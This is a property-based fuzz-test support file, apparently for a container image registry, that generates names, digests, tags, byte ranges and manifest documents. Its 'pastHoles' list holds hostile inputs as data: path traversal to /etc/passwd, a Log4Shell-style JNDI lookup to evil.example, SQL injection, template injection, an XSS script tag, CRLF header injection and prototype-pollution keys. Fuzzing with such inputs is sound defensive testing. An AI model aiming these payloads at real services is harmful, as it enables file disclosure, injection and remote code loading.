import fc from 'fast-check';
import { imageOf, indexOf } from '../support/documents.ts';
import { imageType, indexType, sha256, sha512 } from '../support/registry.ts';

/** Texts that broke a registry, or a program of its kind, once. */
export const pastHoles: readonly string[] = [
  '..',
  '../..',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e',
  '..\\..\\windows',
  '/etc/passwd',
  '//evil.example/',
  'a/../b',
  'a//b',
  './a',
  '%00',
  '\u0000',
  'latest\u0000.json',
  '%',
  '%zz',
  '%c0%ae%c0%ae',
  '%ff',
  '\ud800',
  '\u202egnp.exe',
  'ADMIN',
  'ſha256',
  '_catalog',
  'uploads',
  'blobs/uploads',
  'manifests/latest',
  'token/keys',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  "' or 1=1 --",
  "'; drop table tags; --",
  '$\u007bjndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'a\r\nSet-Cookie: a=b',
  '%0d%0aSet-Cookie:%20a=b',
  'sha256:',
  'sha256:../../../../etc/passwd',
  `sha256:${'0'.repeat(63)}`,
  `sha256:${'A'.repeat(64)}`,
  `sha256:${'0'.repeat(64)}\n`,
  `SHA256:${'0'.repeat(64)}`,
  'md5:d41d8cd98f00b204e9800998ecf8427e',
  'sha256+b64:abc',
  '-1',
  '0',
  '1e308',
  'NaN',
  'Infinity',
  '0x10',
  '9007199254740993',
  '99999999999999999999999999',
  '18446744073709551616',
  ' 1',
  '1,2',
  '٣',
];

/** Long texts on which a pattern may go back and forth. */
export const longTexts: readonly string[] = [
  'a'.repeat(15_000),
  'a/'.repeat(7_500),
  'a-'.repeat(7_500),
  '-'.repeat(15_000),
  `a${'_'.repeat(14_000)}!`,
  'a.'.repeat(7_500),
  '%41'.repeat(5_000),
  '%'.repeat(15_000),
  ':'.repeat(15_000),
  'sha256:'.repeat(2_000),
  '1'.repeat(15_000),
  '0-'.repeat(7_500),
  ','.repeat(15_000),
  '" '.repeat(7_500),
  'W/"'.repeat(5_000),
  ' '.repeat(15_000),
  'blobs/uploads/'.repeat(1_000),
  '/manifests/'.repeat(1_300),
  '../'.repeat(5_000),
  '\u0000'.repeat(15_000),
  'é'.repeat(7_500),
];

/** Any text at all, halves of surrogate pairs included. */
export const anyText: fc.Arbitrary<string> = fc
  .uint16Array({ maxLength: 30 })
  .map((units) => String.fromCharCode(...units));

const tokens = ['sha256:', 'sha512:', '/', '-', '_', '.', ':', ',', '=', '*', '"', ' ', '%', '0', '9', 'a', 'bytes'];
const words = ['repository:', 'pull', 'push', 'Basic ', 'Bearer ', 'W/', 'latest', 'acme', '+', ';', '\\', '\t', '#'];

/** Words of the grammars that are read here, in no order. */
const soup: fc.Arbitrary<string> = fc
  .array(fc.constantFrom(...tokens, ...words), { maxLength: 12 })
  .map((pieces) => pieces.join(''));

/** `text` with one character changed, dropped or doubled. */
function nearly(text: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const edit = fc.tuple(text, fc.nat(), fc.constantFrom('drop', 'double', 'change'), fc.string({ maxLength: 1 }));
  return edit.map(([whole, at, how, other]) => {
    const place = whole.length === 0 ? 0 : at % whole.length;
    const middle = how === 'drop' ? '' : how === 'double' ? whole.slice(place, place + 1).repeat(2) : other;
    return whole.slice(0, place) + middle + whole.slice(place + 1);
  });
}

/** Mostly `valid`, sometimes nearly that, and sometimes anything. */
export function mostly(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: valid, weight: 30 },
    { arbitrary: nearly(valid), weight: 3 },
    { arbitrary: fc.constantFrom(...pastHoles), weight: 2 },
    { arbitrary: soup, weight: 1 },
    { arbitrary: anyText, weight: 1 },
    { arbitrary: fc.constantFrom(...longTexts), weight: 1 },
  );
}

/** Contents that the fuzzed registry has. */
export const contents: readonly string[] = ['{}', 'layer one', 'layer two'];

export const names: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constant('acme/web'), weight: 5 },
  { arbitrary: fc.constantFrom('acme/other', 'a', 'acme/web/blobs/uploads'), weight: 1 },
);
export const digests: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...contents.map(sha256), ...contents.map(sha512), sha256(imageOf(['layer one']))),
  fc.constant(sha256('nothing')),
);
export const tags: fc.Arbitrary<string> = fc.constantFrom('latest', 'v1', '_', 'a'.repeat(128));
export const ranges: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom('', 'bytes=', 'bytes '), fc.nat(40), fc.nat(40), fc.constantFrom('', '/40', '/*'))
  .map(([unit, start, end, total]) => `${unit}${start}-${end}${total}`);

const extra = fc.dictionary(
  fc.constantFrom('subject', 'annotations', 'artifactType', 'config', 'layers', 'manifests', 'blobs', '__proto__'),
  fc.oneof(
    fc.jsonValue({ maxDepth: 3 }),
    fc.constantFrom(imageType, indexType),
    digests.map((digest) => ({ mediaType: imageType, digest, size: 2 })),
  ),
  { maxKeys: 2 },
);

/** Documents: images, indexes, and what is nearly that. */
export const documents: fc.Arbitrary<string> = mostly(
  fc.oneof(
    fc.tuple(fc.subarray(contents.slice(1)), extra).map(([layers, more]) => imageOf(layers, more)),
    fc.tuple(fc.subarray(['x', 'y']), extra).map(([children, more]) => indexOf(children, more)),
    fc.json({ maxDepth: 4 }),
  ),
);
